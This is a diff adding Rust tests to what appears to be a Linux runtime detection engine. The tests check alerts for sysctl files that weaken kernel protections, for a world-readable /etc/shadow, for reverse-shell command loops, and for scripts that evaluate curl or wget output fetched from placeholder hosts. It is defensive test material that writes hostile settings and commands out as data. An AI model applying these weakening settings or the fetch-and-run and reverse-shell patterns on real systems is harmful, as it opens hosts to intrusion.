@@ -103,6 +103,7 @@ fn exec_event(exe: &str, f: impl FnOnce(&mut ExecInfo)) -> Event {
         env_truncated: false,
         glibc_tunables: false,
         setuid: false,
+        script_evals: Vec::new(),
     };
     f(&mut e);
     Event::Exec(Box::new(e))
@@ -129,6 +130,7 @@ fn file_event(operation: &'static str, path: &str, f: impl FnOnce(&mut FileInfo)
         sysctl_setting: None,
         sysctl_by_hook: false,
         git_config: None,
+        sysctl_file: None,
         accounts_changed: None,
         program_written: None,
         written_by: None,
@@ -6331,5 +6333,410 @@ fn busybox_cron_tables_udev_runtime_rules_and_the_name_service_switch_are_persis
             .is_empty(),
             "{exe}"
         );
+    }
+}
+
+#[test]
+fn a_kernel_settings_file_written_with_a_weak_setting_is_defense_evasion() {
+    let sh = exec_by(
+        330,
+        "/usr/bin/dash",
+        &["sh", "-c", "x"],
+        &[(200, "/usr/bin/bash")],
+    );
+    let written = |path: &str, text: &str| {
+        file_event("openWrite", path, |f| {
+            f.process = proc_ref(330, "sh");
+            f.sysctl_file = Some(text.to_owned());
+        })
+    };
+    for (path, text, kind) in [
+        (
+            "/etc/sysctl.d/99-x.conf",
+            "kernel.randomize_va_space=0\n",
+            "DefenseEvasion",
+        ),
+        (
+            "/etc/sysctl.d/99-x.conf",
+            "# tuning\nnet.ipv4.ip_forward = 1\n  kernel.randomize_va_space = 1\n",
+            "DefenseEvasion",
+        ),
+        (
+            "/etc/sysctl.conf",
+            "kernel/yama/ptrace_scope=0\n",
+            "DefenseEvasion",
+        ),
+        (
+            "/run/sysctl.d/10-x.conf",
+            "-kernel.kptr_restrict = 0\n",
+            "DefenseEvasion",
+        ),
+        (
+            "/usr/lib/sysctl.d/99-x.conf",
+            "; comment\nfs.protected_symlinks=0\nfs.protected_hardlinks = 0\n",
+            "DefenseEvasion",
+        ),
+        (
+            "/usr/local/lib/sysctl.d/99-x.conf",
+            "kernel.perf_event_paranoid=-1\n",
+            "DefenseEvasion",
+        ),
+        (
+            "/etc/sysctl.d/99-x.conf",
+            "kernel.core_pattern=|/tmp/x %p\n",
+            "PrivilegeEscalation",
+        ),
+    ] {
+        let found = run_all(&[sh.clone(), written(path, text)]);
+        assert_eq!(
+            found,
+            vec![(
+                format!("{kind}:Runtime/SensitiveFileModified"),
+                "behaviour-sysctl-file-weakened".to_owned(),
+                SeverityLabel::Medium
+            )],
+            "{path}: {text}"
+        );
+    }
+    // Ordinary tuning, full ASLR, a weak value replaced by a later line, a commented setting,
+    // systemd's own core-dump handler, a file sysctl does not read, and a package manager
+    // writing a weak value: nothing at all (no SensitiveFileModified either).
+    for (path, text) in [
+        ("/etc/sysctl.d/99-x.conf", "vm.swappiness=10\n"),
+        ("/etc/sysctl.d/99-x.conf", "kernel.randomize_va_space = 2\n"),
+        (
+            "/etc/sysctl.conf",
+            "kernel.kptr_restrict=0\nkernel.kptr_restrict=1\n",
+        ),
+        ("/etc/sysctl.conf", "#kernel.yama.ptrace_scope=0\n"),
+        (
+            "/usr/lib/sysctl.d/50-coredump.conf",
+            "kernel.core_pattern=|/lib/systemd/systemd-coredump %P %u %g %s %t %c %h\n",
+        ),
+        (
+            "/usr/lib/sysctl.d/50-pid-max.conf",
+            "kernel.pid_max = 4194304\n",
+        ),
+        ("/etc/sysctl.d/README.sysctl", "kernel.kptr_restrict=0\n"),
+        // A dot inside the slash form is part of the name (an interface), not a separator.
+        (
+            "/etc/sysctl.d/99-x.conf",
+            "net/ipv4/conf/eth0.1/rp_filter = 0\n",
+        ),
+    ] {
+        let found = run_all(&[sh.clone(), written(path, text)]);
+        assert!(found.is_empty(), "{path}: {text}: {found:?}");
+    }
+    let dpkg = exec_by(
+        331,
+        "/usr/bin/dpkg",
+        &["dpkg", "-i", "x.deb"],
+        &[(1, "/usr/lib/systemd/systemd")],
+    );
+    let by_dpkg = file_event("openWrite", "/etc/sysctl.d/99-x.conf", |f| {
+        f.process = proc_ref(331, "dpkg");
+        f.sysctl_file = Some("kernel.kptr_restrict=0\n".to_owned());
+    });
+    let found = run_all(&[dpkg, by_dpkg]);
+    assert!(found.is_empty(), "{found:?}");
+}
+
+#[test]
+fn kernel_settings_files_are_read_where_sysctl_reads_them() {
+    use super::technique::is_sysctl_file;
+    for path in [
+        "/etc/sysctl.conf",
+        "/etc/sysctl.d/99-x.conf",
+        "/run/sysctl.d/x.conf",
+        "/usr/lib/sysctl.d/50-default.conf",
+        "/lib/sysctl.d/x.conf",
+        "/usr/local/lib/sysctl.d/x.conf",
+    ] {
+        assert!(is_sysctl_file(std::path::Path::new(path)), "{path}");
+    }
+    for path in [
+        "/etc/sysctl.d/README.sysctl",
+        "/etc/sysctl.d/sub/x.conf",
+        "/etc/sysctl.conf.bak",
+        "/tmp/sysctl.d/x.conf",
+        "/etc/sysctl.d/",
+    ] {
+        assert!(!is_sysctl_file(std::path::Path::new(path)), "{path}");
+    }
+}
+
+#[test]
+fn the_password_hashes_made_accessible_to_every_account() {
+    let chmod = |path: &str, mode: &str| {
+        file_event("chmod", path, |f| {
+            f.process = proc_ref(340, "chmod");
+            f.mode = Some(mode.to_owned());
+            f.ret = 0;
+        })
+    };
+    for (path, mode) in [
+        ("/etc/shadow", "644"),
+        ("/etc/shadow", "604"),
+        ("/etc/gshadow", "100644"),
+        ("/etc/gshadow", "666"),
+        ("/etc/shadow-", "644"),
+    ] {
+        let found = run_all(&[chmod(path, mode)]);
+        assert_eq!(
+            found,
+            vec![(
+                "PrivilegeEscalation:Runtime/SensitiveFileModified".to_owned(),
+                "behaviour-password-hashes-exposed".to_owned(),
+                SeverityLabel::High
+            )],
+            "{path} {mode}"
+        );
+    }
+    // The distributions' modes, a refused chmod, and another file of the set given to others
+    // (the pipeline keeps no such chmod; here it is the generic check's, not this rule's).
+    for (path, mode) in [
+        ("/etc/shadow", "640"),
+        ("/etc/gshadow", "600"),
+        ("/etc/shadow", "0"),
+    ] {
+        let found = run_all(&[chmod(path, mode)]);
+        assert!(found.is_empty(), "{path} {mode}: {found:?}");
+    }
+    let refused = file_event("chmod", "/etc/shadow", |f| {
+        f.mode = Some("644".into());
+        f.ret = -1;
+    });
+    assert!(run_all(&[refused]).is_empty());
+    let passwd = run_all(&[chmod("/etc/passwd", "644")]);
+    assert!(
+        passwd
+            .iter()
+            .all(|(_, r, _)| r != "behaviour-password-hashes-exposed"),
+        "{passwd:?}"
+    );
+}
+
+#[test]
+fn an_interpreter_connected_out_running_what_it_reads_is_a_reverse_shell() {
+    let interpreter =
+        |pid: u32, exe: &str, argv: &[&str]| exec_by(pid, exe, argv, &[(200, "/usr/bin/bash")]);
+    let connect = |pid: u32, remote: &str| {
+        Event::Connect(NetInfo {
+            time: "2026-11-27T10:00:00Z".into(),
+            process: proc_ref(pid, "interp"),
+            ret: 0,
+            error: None,
+            fd: 3,
+            family: "inet",
+            protocol: "tcp",
+            remote: Some(remote.parse().unwrap()),
+            unix_path: None,
+            repeats: 0,
+            outcome: None,
+        })
+    };
+    // A child of `parent` with its standard output on a pipe (the interpreter captures it).
+    let child = |pid: u32, parent: (u32, &str), exe: &str, argv: &[&str], captured: bool| {
+        let mut e = exec_by(pid, exe, argv, &[parent, (200, "/usr/bin/bash")]);
+        if let Event::Exec(x) = &mut e {
+            x.stdout_pipe = captured.then_some(77);
+        }
+        e
+    };
+    let tcl = (410, "/usr/bin/tclsh8.6");
+    let python = (420, "/usr/bin/python3.11");
+    let perl = (430, "/usr/bin/perl");
+    let loop_rule = |events: &[Event]| {
+        run_all(events)
+            .into_iter()
+            .filter(|(_, r, _)| r == "behaviour-reverse-shell-command-loop")
+            .collect::<Vec<_>>()
+    };
+    let raised = vec![(
+        "Execution:Runtime/ReverseShell".to_owned(),
+        "behaviour-reverse-shell-command-loop".to_owned(),
+        SeverityLabel::High,
+    )];
+    // tclsh's exec loop: the program run by tclsh itself.
+    assert_eq!(
+        loop_rule(&[
+            interpreter(tcl.0, tcl.1, &["tclsh", "/root/x.tcl"]),
+            connect(tcl.0, "127.0.0.1:4444"),
+            child(411, tcl, "/usr/bin/id", &["id"], true),
+        ]),
+        raised
+    );
+    // python's `subprocess.run(line, shell=True, capture_output=True)`: the line keeps its
+    // newline; perl's backticks of a line with shell syntax likewise.
+    assert_eq!(
+        loop_rule(&[
+            interpreter(python.0, python.1, &["python3", "-c", "..."]),
+            connect(python.0, "192.0.2.7:443"),
+            child(
+                421,
+                python,
+                "/usr/bin/dash",
+                &["/bin/sh", "-c", "id\n"],
+                true
+            ),
+        ]),
+        raised
+    );
+    assert_eq!(
+        loop_rule(&[
+            interpreter(perl.0, perl.1, &["perl", "-e", "..."]),
+            connect(perl.0, "127.0.0.1:4444"),
+            child(
+                431,
+                perl,
+                "/usr/bin/dash",
+                &["sh", "-c", "ls | head\n"],
+                true
+            ),
+        ]),
+        raised
+    );
+    // Not a loop: tclsh running a program with no connect out (or its output not captured,
+    // or only a unix socket); python running a command string with no trailing newline, a
+    // program directly, or a multi-line script after a connect; a connect that was refused;
+    // a connect of the image before an exec.
+    for events in [
+        vec![
+            interpreter(tcl.0, tcl.1, &["tclsh"]),
+            child(411, tcl, "/usr/bin/uname", &["uname", "-r"], true),
+        ],
+        vec![
+            interpreter(tcl.0, tcl.1, &["tclsh"]),
+            connect(tcl.0, "127.0.0.1:4444"),
+            child(411, tcl, "/usr/bin/id", &["id"], false),
+        ],
+        vec![
+            interpreter(python.0, python.1, &["python3", "deploy.py"]),
+            connect(python.0, "192.0.2.7:443"),
+            child(
+                421,
+                python,
+                "/usr/bin/dash",
+                &["/bin/sh", "-c", "uname -r"],
+                true,
+            ),
+            child(422, python, "/usr/bin/git", &["git", "status"], true),
+            child(
+                423,
+                python,
+                "/usr/bin/dash",
+                &["/bin/sh", "-c", "set -e\nmake\n"],
+                true,
+            ),
+        ],
+        vec![
+            interpreter(perl.0, perl.1, &["perl", "-e", "..."]),
+            Event::Connect(NetInfo {
+                ret: -111,
+                error: Some("ECONNREFUSED".into()),
+                ..match connect(perl.0, "127.0.0.1:4444") {
+                    Event::Connect(n) => n,
+                    _ => unreachable!(),
+                }
+            }),
+            child(431, perl, "/usr/bin/dash", &["sh", "-c", "id\n"], true),
+        ],
+        vec![
+            interpreter(tcl.0, tcl.1, &["tclsh"]),
+            connect(tcl.0, "127.0.0.1:4444"),
+            interpreter(tcl.0, "/usr/bin/bash", &["bash", "x.sh"]),
+            child(411, (tcl.0, "/usr/bin/bash"), "/usr/bin/id", &["id"], true),
+        ],
+    ] {
+        let found = loop_rule(&events);
+        assert!(found.is_empty(), "{found:?}");
+    }
+}
+
+#[test]
+fn a_download_a_script_hands_to_eval_is_download_and_execute() {
+    let script = |evals: &[&str]| {
+        let mut e = exec_by(
+            440,
+            "/usr/bin/bash",
+            &["bash", "/root/setup.sh"],
+            &[(200, "/usr/bin/bash")],
+        );
+        if let Event::Exec(x) = &mut e {
+            x.script_evals = evals.iter().map(|s| (*s).to_owned()).collect();
+        }
+        e
+    };
+    let fetch = |exe: &str, argv: &[&str], captured: bool| {
+        let mut e = exec_by(
+            441,
+            exe,
+            argv,
+            &[(440, "/usr/bin/bash"), (200, "/usr/bin/bash")],
+        );
+        if let Event::Exec(x) = &mut e {
+            x.stdout_pipe = captured.then_some(88);
+        }
+        e
+    };
+    let curl = || {
+        fetch(
+            "/usr/bin/curl",
+            &["curl", "-s", "http://192.0.2.1/x.sh"],
+            true,
+        )
+    };
+    let evaluated = |events: &[Event]| {
+        run_all(events)
+            .into_iter()
+            .filter(|(_, r, _)| r == "behaviour-download-pipe-exec")
+            .collect::<Vec<_>>()
+    };
+    for evals in [
+        vec!["curl -s http://192.0.2.1/x.sh"],
+        vec!["ssh-agent -s", "/usr/bin/curl -fsSL http://192.0.2.1/x.sh"],
+    ] {
+        assert_eq!(
+            evaluated(&[script(&evals), curl()]),
+            vec![(
+                "Execution:Runtime/SuspiciousCommand".to_owned(),
+                "behaviour-download-pipe-exec".to_owned(),
+                SeverityLabel::High
+            )],
+            "{evals:?}"
+        );
+    }
+    assert_eq!(
+        evaluated(&[
+            script(&["wget -qO- http://192.0.2.1/x"]),
+            fetch(
+                "/usr/bin/wget",
+                &["wget", "-qO-", "http://192.0.2.1/x"],
+                true
+            ),
+        ])
+        .len(),
+        1
+    );
+    // A script that evaluates something else (ssh-agent), or nothing, fetching a value; a
+    // download to a file; a program that is no downloader named by the eval.
+    for events in [
+        vec![script(&["ssh-agent -s"]), curl()],
+        vec![script(&[]), curl()],
+        vec![
+            script(&["curl -s http://192.0.2.1/x.sh"]),
+            fetch(
+                "/usr/bin/curl",
+                &["curl", "-o", "x", "http://192.0.2.1/x"],
+                false,
+            ),
+        ],
+        vec![
+            script(&["dircolors -b"]),
+            fetch("/usr/bin/dircolors", &["dircolors", "-b"], true),
+        ],
+    ] {
+        let found = evaluated(&events);
+        assert!(found.is_empty(), "{found:?}");
     }
 }
